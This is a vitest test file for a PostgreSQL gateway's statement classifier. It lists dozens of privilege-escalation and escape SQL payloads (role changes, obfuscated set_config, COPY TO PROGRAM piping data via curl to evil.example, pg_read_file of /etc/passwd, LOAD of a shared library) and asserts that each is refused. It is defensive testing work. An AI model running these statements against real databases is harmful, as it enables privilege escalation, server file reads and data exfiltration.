/**
 * Attack: a user with a gateway session whose profile allows everything (an allow-all rule, default allow) tries
 * to leave what the gateway can see and enforce — another role, the server's files and programs, code the gateway
 * cannot read, a direct login, the gateway's own timeout — by every spelling PostgreSQL accepts. Each must be
 * refused by a built-in rule, through the real parser (the same code path the gateway runs before forwarding).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { decideStatements } from '../../src/decide/gateway-statement.decide.js';
import { classifySql, loadSqlParser } from '../../src/gateway/postgres/sql-classify.js';
import type { GatewayPolicy } from '../../src/policy/model.js';
import { MALLORY } from './statement-decisions.js';

const PERMISSIVE: GatewayPolicy = {
  rules: [{ name: 'anything', allow: true }],
  otherwise: 'allow',
  statementTimeoutSeconds: 30,
  masks: [],
};

beforeAll(async () => {
  await loadSqlParser();
});

// [the escape, the SQL, the built-in rule that refuses it]
const ESCAPES: readonly [string, string, string][] = [
  ['RESET ROLE', 'RESET ROLE', 'role-change'],
  ['SET ROLE', 'SET ROLE postgres', 'role-change'],
  ['SET ROLE after an allowed statement in one message', 'SELECT 1; SET ROLE postgres', 'role-change'],
  ['SET ROLE inside a transaction block', 'BEGIN; SET LOCAL ROLE postgres; SELECT 1; COMMIT', 'role-change'],
  ['SET LOCAL ROLE', 'SET LOCAL ROLE postgres', 'role-change'],
  ['SET SESSION ROLE', 'set session role postgres', 'role-change'],
  ['SET ROLE with mixed case and comments', 'sEt /* hi */ RoLe -- there\n postgres', 'role-change'],
  ['SET with a quoted parameter name', `SET "role" = 'postgres'`, 'role-change'],
  ['SET with a Unicode-escaped parameter name', `SET U&"\\0072ole" = 'postgres'`, 'role-change'],
  ['SET role TO DEFAULT', 'SET role TO DEFAULT', 'role-change'],
  ['SET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION postgres', 'role-change'],
  ['RESET SESSION AUTHORIZATION', 'RESET SESSION AUTHORIZATION', 'role-change'],
  ['set_config of the role', `SELECT set_config('role', 'postgres', false)`, 'role-change'],
  ['set_config qualified, in FROM', `SELECT * FROM pg_catalog.set_config('role', 'postgres', true)`, 'role-change'],
  ['set_config in a subquery', `SELECT * FROM t WHERE x IN (SELECT set_config('role', 'p', false))`, 'role-change'],
  ['set_config with a dollar-quoted name', `SELECT set_config($$role$$, 'postgres', false)`, 'role-change'],
  ['set_config with an escape-string name', `SELECT set_config(E'\\x72ole', 'postgres', false)`, 'role-change'],
  ['set_config with a cast name', `SELECT set_config('role'::text, 'postgres', false)`, 'role-change'],
  ['set_config of session_authorization', `SELECT set_config('session_authorization', 'p', false)`, 'role-change'],
  ['set_config with a computed name', `SELECT set_config('ro' || 'le', 'postgres', false)`, 'gateway-settings'],
  ['set_config through EXPLAIN ANALYZE', `EXPLAIN ANALYZE SELECT set_config('role', 'p', false)`, 'role-change'],
  ['set_config prepared for later', `PREPARE p AS SELECT set_config('role', 'p', false)`, 'role-change'],
  ['set_config in a view', `CREATE VIEW v AS SELECT set_config('role', 'p', false)`, 'role-change'],
  ['ALTER ROLE to set its own password and log in directly', `ALTER ROLE CURRENT_USER PASSWORD 'mine'`, 'role-change'],
  ['ALTER ROLE … SET role for the next login', `ALTER ROLE CURRENT_USER SET role = 'postgres'`, 'role-change'],
  ['GRANT the granted role to oneself elsewhere', 'GRANT analytics_ro TO mallory_personal', 'role-change'],
  ['CREATE ROLE', `CREATE ROLE backdoor LOGIN PASSWORD 'x'`, 'role-change'],
  ['ALTER DATABASE … SET role', `ALTER DATABASE orders SET role = 'postgres'`, 'role-change'],
  ['RESET ALL (clears the gateway timeout)', 'RESET ALL', 'gateway-settings'],
  ['DISCARD ALL', 'DISCARD ALL', 'gateway-settings'],
  ['SET statement_timeout', 'SET statement_timeout = 0', 'gateway-settings'],
  ['SET LOCAL statement_timeout', 'SET LOCAL statement_timeout = 0', 'gateway-settings'],
  ['set_config of statement_timeout', `SELECT set_config('statement_timeout', '0', false)`, 'gateway-settings'],
  ['COPY … TO PROGRAM', `COPY orders TO PROGRAM 'curl -d @- https://evil.example'`, 'copy-program'],
  ['COPY … FROM PROGRAM', `COPY orders FROM PROGRAM 'id'`, 'copy-program'],
  ['SELECT …; COPY … TO PROGRAM', `SELECT 1; COPY (SELECT 1) TO PROGRAM 'sh -c id'`, 'copy-program'],
  ['COPY from a server file', `COPY orders FROM '/etc/passwd'`, 'copy-file'],
  ['COPY to a server file', `COPY orders TO '/tmp/x.csv'`, 'copy-file'],
  ['DO block', `DO $$ BEGIN EXECUTE 'SET ROLE postgres'; END $$`, 'opaque-code'],
  ['DO block with a language', `DO LANGUAGE plpgsql $x$ BEGIN PERFORM 1; END $x$`, 'opaque-code'],
  [
    'a PL/pgSQL function',
    `CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'RESET ROLE'; END $$`,
    'opaque-code',
  ],
  [
    'a SQL function whose body sets the role',
    `CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT set_config('role', 'p', false) $$`,
    'role-change',
  ],
  [
    'a function with a SET role clause',
    `CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = postgres AS 'SELECT 1'`,
    'role-change',
  ],
  [
    'CREATE FUNCTION … SECURITY DEFINER',
    `CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'`,
    'security-definer',
  ],
  ['ALTER FUNCTION … SECURITY DEFINER', 'ALTER FUNCTION f() SECURITY DEFINER', 'security-definer'],
  ['ALTER SYSTEM', `ALTER SYSTEM SET log_statement = 'none'`, 'alter-system'],
  ['LOAD', `LOAD '/tmp/evil.so'`, 'load'],
  ['CREATE EXTENSION', 'CREATE EXTENSION dblink', 'extension'],
  ['CREATE LANGUAGE', 'CREATE LANGUAGE plperlu', 'extension'],
  [
    'a user mapping holding credentials',
    `CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (password 'x')`,
    'foreign-server',
  ],
  ['dblink to another server', `SELECT * FROM dblink('host=10.0.0.1', 'SELECT 1') AS t(a int)`, 'outside-function'],
  ['pg_read_file', `SELECT pg_read_file('/etc/passwd')`, 'outside-function'],
  ['pg_read_file quoted and qualified', `SELECT "pg_catalog"."pg_read_file"('/etc/passwd')`, 'outside-function'],
  ['lo_import of a server file', `SELECT lo_import('/etc/passwd')`, 'outside-function'],
  ['query_to_xml running SQL text', `SELECT query_to_xml('SET ROLE postgres', true, true, '')`, 'outside-function'],
  ['pg_reload_conf', 'SELECT pg_reload_conf()', 'outside-function'],
  ['a statement the parser cannot read', 'SELECT 1; SET ROLE', 'unparsable'],
  ['an unterminated comment hiding the rest', 'SELECT 1; /* SET ROLE postgres', 'unparsable'],
];

describe('attack: escaping the gateway with statements a permissive profile would allow', () => {
  it.each(ESCAPES)('%s is refused', (_escape, sql, rule) => {
    const decision = decideStatements(PERMISSIVE, classifySql(sql), MALLORY);
    expect(decision).toMatchObject({ allowed: false, builtIn: true, rule });
    expect(decision.message).toContain(rule);
  });

  it('the same permissive profile lets ordinary statements through (the refusals above are not blanket ones)', () => {
    for (const sql of ['SELECT * FROM orders', 'DELETE FROM orders WHERE id = 1', 'SET search_path = app', 'BEGIN']) {
      expect(decideStatements(PERMISSIVE, classifySql(sql), MALLORY).allowed, sql).toBe(true);
    }
  });
});
